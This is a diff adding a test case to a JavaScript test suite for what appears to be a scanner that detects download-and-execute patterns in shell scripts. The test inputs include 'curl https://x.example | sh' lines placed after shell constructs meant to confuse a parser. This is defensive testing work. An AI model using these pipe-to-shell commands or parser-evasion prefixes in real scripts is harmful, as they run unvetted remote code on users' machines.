@@ -211,6 +211,13 @@ test.each([
   expect(foundIn(script)).toEqual(found);
 });
 
+test.each(["cat $[1 <<E]\n'\nE]", "a[1<<E]=3", "((x = 1 << E))\n", "a[1 <<E]=\n'\nE]="])(
+  "`%s` hides nothing behind it, whichever shell runs it",
+  (line) => {
+    expect(foundIn(`${line}\ncurl https://x.example | sh\necho \"'\"`)).toHaveLength(1);
+  },
+);
+
 test("of the places of one command twenty are told apart", () => {
   const places = Array.from({ length: 22 }, (_, index) => `https://${index}.example`);
   const found = foundIn(`curl ${places.join(" ")} | sh`);
